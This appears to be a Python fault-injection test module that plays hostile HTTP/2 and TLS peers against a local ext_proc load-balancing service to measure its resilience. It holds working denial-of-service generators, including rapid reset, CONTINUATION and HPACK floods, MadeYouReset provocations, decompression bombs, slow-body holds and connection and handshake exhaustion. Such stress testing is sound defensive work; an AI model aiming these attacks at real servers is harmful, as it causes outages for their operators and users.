"""Hostile peers: each sends raw frames to an ext_proc port and measures how long the picker tolerates it.

    python -m tests.faults.attacks NAME --port PORT [--pages PORT] [--file FILE] [--seconds 5]     prints one JSON object

An attack is a script for one connection: an endless series of bytes. `pour` sends them as fast as the picker takes them, reads the
answers, and reports when and with which GOAWAY text the connection was closed. As a program the attacker reconnects at once, until
`--seconds` are over. Patient attacks stop sending and only hold their streams, so that the picker's time limits must end them.
"""

import argparse
import contextlib
import dataclasses
import itertools
import json
import resource
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator

from loadtest.load.proto import ext_proc_pb2 as pb
from tests.faults.client import (
    ACK,
    BLOCK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_MAX,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST,
    SETTINGS,
    WINDOW,
    frame,
    framed,
    header_block,
)
from tests.faults.failing_servers import BLACK_HOLES, REQUEST_FLOODS
from tests.faults.page_attacks import FILE_ATTACKS, PAGE_ATTACKS
from tests.faults.tls_attacks import garble
from tests.tls_client import client_hello

PRIORITY = 2
CALM = 11
INITIAL_WINDOW = 4
READ_BYTES = 1 << 18
BODY_BYTES = 31 << 20
PIECE_BYTES = 1 << 20
AT_ONCE = 64  # scripts are sent in chunks of so many steps
STREAMS_AT_FIRST = 8
CONNECTIONS = 1500
HANDSHAKES = 200  # at the same time
ELSEWHERE = "127.0.0.3"
HANDSHAKES_NAME, GARBAGE_NAME = "TLS handshakes", "TLS garbage"
USAGE_LIES = "usage lies"
BESIDE = ("early aborts", *BLACK_HOLES, USAGE_LIES)


@dataclasses.dataclass
class Closed:
    """How one connection ended. `after`: the seconds from its first byte to its end; None if the picker did not close it."""

    after: float | None = None
    code: int | None = None  # of the GOAWAY frame
    text: str = ""
    sent: int = 0  # bytes sent


def word(value: int) -> bytes:
    return struct.pack(">I", value)


def _head(name: str = "attack", path: str = "/v1/completions") -> bytes:
    """Encodes the first message of a request, so that the picker starts to work on the stream."""
    message = pb.ProcessingRequest()
    for key, value in ((":method", "POST"), (":path", path), ("x-request-id", name)):
        message.request_headers.headers.headers.add(key=key, raw_value=value.encode())
    return framed(message)


def _body(size: int, *, last: bool) -> bytes:
    """Encodes a message with `size` bytes of a body. `last`: whether the body ends with it."""
    return framed(pb.ProcessingRequest(request_body=pb.HttpBody(body=b"x" * size, end_of_stream=last)))


def _data(number: int, payload: bytes, flags: int = 0) -> bytes:
    """Divides the payload into DATA frames."""
    cuts = range(0, max(1, len(payload)), FRAME_MAX)
    return b"".join(frame(DATA, flags if at == cuts[-1] else 0, number, payload[at : at + FRAME_MAX]) for at in cuts)


HEAD = _head()
GREETING = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
Script = Iterator[bytes]


def _opened(number: int) -> bytes:
    """Returns the frames that open a stream and begin a request."""
    return frame(HEADERS, END_HEADERS, number, BLOCK) + frame(DATA, 0, number, HEAD)


def _numbers() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset() -> Script:
    """Opens streams and resets them at once, half of them after the beginning of a request."""
    for number in _numbers():
        opening = _opened(number) if number & 2 else frame(HEADERS, END_HEADERS, number, BLOCK)
        yield opening + frame(RST, 0, number, word(8))


def continuation() -> Script:
    """Sends a header block without end."""
    yield frame(HEADERS, 0, 1, BLOCK)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 4))


def hpack_bomb() -> Script:
    """Sends header blocks in which every byte expands to 3 KiB."""
    large = b"\x40\x01a\x7f\x81\x17" + bytes(3072)
    for number in _numbers():
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, BLOCK + large + b"\xbe" * 1000)


def pings() -> Script:
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings() -> Script:
    """Sends SETTINGS frames that change the windows of all streams."""
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST):
        yield _opened(number)
    for value in itertools.cycle((100, 200)):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, value))


def empty_data() -> Script:
    yield _opened(1)
    yield from itertools.repeat(frame(DATA, 0, 1))


def window_updates() -> Script:
    yield _opened(1)
    yield from itertools.repeat(frame(WINDOW, 0, 1, word(1)))


def priorities() -> Script:
    yield from itertools.repeat(frame(PRIORITY, 0, 1, bytes(5)))


def zero_window() -> Script:
    """Sends bodies that the picker must echo into a window of size 0."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    piece = _body(PIECE_BYTES, last=False)
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST + 1):
        yield frame(HEADERS, END_HEADERS, number, BLOCK) + frame(DATA, 0, number, _head("hoard", "/upload"))
        pieces = _data(number, piece)
        yield from itertools.repeat(pieces, BODY_BYTES // PIECE_BYTES - 1)
        yield _data(number, _body(10, last=True))


def slow_body() -> Script:
    """Begins requests with a few bytes of body each, and sends nothing more."""
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST):
        yield _opened(number) + _data(number, _body(1000, last=False))


def large_bodies() -> Script:
    """Begins bodies of 6 MB each, and sends nothing more: together more than a worker of 160 MiB holds."""
    piece = _body(PIECE_BYTES, last=False)
    for number in itertools.islice(_numbers(), STREAMS_AT_FIRST):
        yield _opened(number)
        yield from itertools.repeat(_data(number, piece), 6)


def subset_hints() -> Script:
    """Sends requests with a subset hint of 200,000 entries."""
    message = pb.ProcessingRequest.FromString(HEAD[5:])
    fields = message.metadata_context.filter_metadata["envoy.lb.subset_hint"].fields
    values = fields["x-gateway-destination-endpoint-subset"].list_value.values
    for _ in range(200_000):
        values.add(string_value="")
    hinted = framed(message)
    for number in _numbers():
        yield frame(HEADERS, END_HEADERS, number, BLOCK) + _data(number, hinted)


def bombs() -> Script:
    """Sends bodies with a content encoding: 1 MB of gzip that unpacks to 1 GB, the same with brotli and zstd, and garbage for each."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    gzipped = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    gzipped += (deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)) * 1023  # every block is the same
    zstd = b"\x28\xb5\x2f\xfd\xa4\xff\xff\xff\x7f" + b"\x02\xff\xff\x7f" * 100_000  # blocks that repeat one byte
    kinds = [("gzip", gzipped), ("br", b"\xcf\xff\xff\x7f\xf8" * 100_000), ("zstd", zstd), ("gzip, gzip", gzipped)]
    kinds += [(name, b"garbage" * 10_000) for name in ("gzip", "br", "zstd", "deflate")]
    for number, (name, body) in zip(_numbers(), itertools.cycle(kinds), strict=False):
        message = pb.ProcessingRequest.FromString(HEAD[5:])
        message.request_headers.headers.headers.add(key="content-encoding", raw_value=name.encode())
        last = framed(pb.ProcessingRequest(request_body=pb.HttpBody(body=body, end_of_stream=True)))
        yield (frame(HEADERS, END_HEADERS, number, BLOCK) + _data(number, framed(message)) + _data(number, last, END_STREAM))


_WRONG_LENGTH = header_block()  # with a content-length that no body matches, appended as a literal
_WRONG_LENGTH += b"\0\x0econtent-length\x041000"
PROVOCATIONS: dict[str, Callable[[int], bytes]] = {
    "WINDOW_UPDATE of nothing": lambda n: _opened(n) + frame(WINDOW, 0, n, word(0)),
    "a window above 2^31": lambda n: _opened(n) + frame(WINDOW, 0, n, word((1 << 31) - 1)),
    "PRIORITY of 4 bytes": lambda n: _opened(n) + frame(PRIORITY, 0, n, bytes(4)),
    "a stream that depends on itself": lambda n: _opened(n) + frame(PRIORITY, 0, n, word(n) + b"\0"),
    "HEADERS in the middle": lambda n: _opened(n) + frame(HEADERS, END_HEADERS, n, BLOCK),
    "a wrong content-length": lambda n: frame(HEADERS, END_HEADERS, n, _WRONG_LENGTH) + frame(DATA, END_STREAM, n, HEAD),
}


def made_you_reset() -> Script:
    """Begins streams and then makes the server reset them by a protocol error: six kinds in turn."""
    for number, provoke in zip(_numbers(), itertools.cycle(PROVOCATIONS.values()), strict=False):
        yield provoke(number)


def provoking(kind: str) -> Callable[[], Script]:
    """Returns an attack that causes only one of the six protocol errors."""
    return lambda: (PROVOCATIONS[kind](number) for number in _numbers())


ATTACKS: dict[str, Callable[[], Script]] = {
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "HPACK bomb": hpack_bomb,
    "PING": pings,
    "SETTINGS": settings,
    "empty DATA": empty_data,
    "WINDOW_UPDATE": window_updates,
    "PRIORITY": priorities,
    "MadeYouReset": made_you_reset,
    "zero window": zero_window,
    "slow body": slow_body,
    "large bodies": large_bodies,
    "subset hints": subset_hints,
    "bombs": bombs,
}
LIMITED = ("large bodies",)  # these need a picker with little memory
SECURE = (HANDSHAKES_NAME, GARBAGE_NAME)  # these need a picker with TLS


def pour(port: int, script: Script, seconds: float) -> Closed:
    """Runs one connection: sends the script, then waits. Ends with the connection, or after `seconds`."""
    closed = Closed()
    pending = memoryview(GREETING)
    answers = bytearray()
    with socket.create_connection(("127.0.0.1", port), 10) as connection:
        connection.setblocking(False)
        begun = time.monotonic()
        while (left := begun + seconds - time.monotonic()) > 0:
            if not pending:
                pending = memoryview(b"".join(itertools.islice(script, AT_ONCE)))
            readable, writable, _ = select.select([connection], [connection] if pending else [], [], min(left, 0.5))
            try:
                if readable:
                    data = connection.recv(READ_BYTES)
                    answers += data
                    _read(answers, closed)
                    if not data:
                        closed.after = time.monotonic() - begun
                        break
                if writable and closed.code is None:
                    sent = connection.send(pending[:READ_BYTES])
                    closed.sent += sent
                    pending = pending[sent:]
            except OSError:
                closed.after = time.monotonic() - begun
                break
    return closed


def _read(answers: bytearray, closed: Closed) -> None:
    """Looks for a GOAWAY among whole frames, and removes these frames."""
    at = 0
    while len(answers) - at >= 9:
        head, _, _ = struct.unpack_from(">IBI", answers, at)
        end = at + 9 + (head >> 8)
        if end > len(answers):
            break
        if head & 0xFF == GOAWAY:
            closed.code = int.from_bytes(answers[at + 13 : at + 17], "big")
            closed.text = answers[at + 17 : end].decode(errors="replace")
        at = end
    del answers[:at]


def exhaust(port: int, seconds: float, count: int = CONNECTIONS) -> Closed:
    """Opens up to `count` connections from another address. They send a greeting and nothing more; a closed one is replaced."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    begun, closed = time.monotonic(), Closed()
    poll, held = select.epoll(), {}
    try:
        while time.monotonic() - begun < seconds:
            for _ in range(min(50, count - len(held))):
                peer = socket.socket()
                peer.setblocking(False)
                peer.bind((ELSEWHERE, 0))
                peer.connect_ex(("127.0.0.1", port))
                held[peer.fileno()] = peer
                poll.register(peer, select.EPOLLOUT | select.EPOLLRDHUP)
            for number, event in poll.poll(0.02):
                peer = held[number]
                if event & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                    closed.after = closed.after or time.monotonic() - begun
                    poll.unregister(number)
                    held.pop(number).close()
                else:
                    with contextlib.suppress(OSError):  # it may be closed already
                        closed.sent += peer.send(GREETING)
                    poll.modify(number, select.EPOLLRDHUP)
    finally:
        for peer in held.values():
            peer.close()
        poll.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return closed


def shake_hands(port: int, seconds: float, count: int = HANDSHAKES) -> list[Closed]:
    """Begins TLS handshakes from another address, always with the same message, and leaves at the first byte of the answer.

    So a handshake costs the picker a signature and the attacker nothing. There are always `count` of them.
    """
    begun, ends, hello = time.monotonic(), [], client_hello()
    poll, held = select.epoll(), {}
    try:
        while time.monotonic() - begun < seconds:
            for _ in range(count - len(held)):
                peer = socket.socket()
                peer.setblocking(False)
                peer.bind((ELSEWHERE, 0))
                peer.connect_ex(("127.0.0.1", port))
                held[peer.fileno()] = peer
                poll.register(peer, select.EPOLLOUT)
            for number, event in poll.poll(0.02):
                peer = held[number]
                if event == select.EPOLLOUT:
                    peer.send(hello)
                    poll.modify(number, select.EPOLLIN)
                else:  # an answer, or the end
                    ends.append(Closed(time.monotonic() - begun))
                    poll.unregister(number)
                    peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                    held.pop(number).close()
    finally:
        for peer in held.values():
            peer.close()
        poll.close()
    return ends


def burn(seconds: float) -> None:
    """Uses a CPU and sends nothing. Any attacker on the same machine costs at least that."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        bytes(100_000)


def persistent(name: str, port: int, seconds: float, *, pages: int = 0, file: str = "") -> list[Closed]:
    """Attacks for `seconds`, and reconnects at once after a close. Patient attacks wait to the end.

    `pages` is the metrics port, `file` the endpoints file.
    """
    if name in PAGE_ATTACKS:
        return [Closed()] * PAGE_ATTACKS[name](pages, seconds)
    if name in FILE_ATTACKS:
        FILE_ATTACKS[name](file, seconds)
        return []
    if name == "connections":
        return [exhaust(port, seconds)]
    if name in REQUEST_FLOODS:
        return [Closed()] * REQUEST_FLOODS[name](port, seconds)
    if name == HANDSHAKES_NAME:
        return shake_hands(port, seconds)
    if name == GARBAGE_NAME:
        return [Closed()] * garble(port, seconds)
    if name in ("control", *BESIDE):  # those of BESIDE are a part of the good traffic
        if name == "control":
            burn(seconds)
        return []
    until, ends = time.monotonic() + seconds, []
    while (left := until - time.monotonic()) > 0:
        try:
            ends.append(pour(port, ATTACKS[name](), left))
        except OSError:  # the connection was refused
            time.sleep(0.05)
    return ends


def main() -> int:
    line = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    line.add_argument("name", choices=[*ATTACKS, *PAGE_ATTACKS, *FILE_ATTACKS, *SECURE, "connections", "control", *REQUEST_FLOODS, *BESIDE])
    line.add_argument("--pages", type=int, default=0, help="the metrics port")
    line.add_argument("--file", default="", help="the endpoints file")
    line.add_argument("--port", type=int, required=True)
    line.add_argument("--seconds", type=float, default=5.0)
    options = line.parse_args()
    ends = persistent(options.name, options.port, options.seconds, pages=options.pages, file=options.file)
    print(json.dumps([dataclasses.asdict(end) for end in ends]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
